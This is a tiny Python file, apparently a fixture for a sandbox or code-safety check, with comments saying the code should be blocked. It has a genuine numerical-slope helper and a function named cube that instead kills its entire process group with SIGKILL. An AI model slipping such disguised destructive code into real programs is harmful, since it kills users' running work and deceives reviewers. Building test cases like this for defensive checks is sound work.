# tries: ends its group
# deserves: 2 blocked
def mean_slope(f, x, h=0.5):
    return (f(x + h) - f(x - h)) / (2 * h)


import os
import signal
def cube(x):
    os.killpg(0, signal.SIGKILL)
